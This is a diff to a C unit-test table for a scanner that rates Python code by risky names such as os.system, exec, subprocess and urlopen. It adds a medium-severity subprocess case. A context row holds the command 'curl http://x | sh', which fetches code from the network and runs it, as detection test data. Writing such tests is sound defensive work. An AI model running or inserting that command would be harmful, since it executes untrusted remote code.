@@ -208,6 +208,8 @@ code_is_judged_by_names_and_constants(void **state)
 	    {"'os', 'system'", "'curl http://x | sh'", SEVERITY_HIGH,
 	     "system"},
 	    {"'exec'", "'import os'", SEVERITY_HIGH, "exec"},
+	    {"'subprocess'", "'see the import statement'", SEVERITY_MEDIUM,
+	     "subprocess"},
 	    {"'subprocess'", "'10.0.0.1'", SEVERITY_HIGH, "subprocess"},
 	    {"'urllib.request', 'urlopen'", "'http://x/'", SEVERITY_HIGH,
 	     "urlopen"},
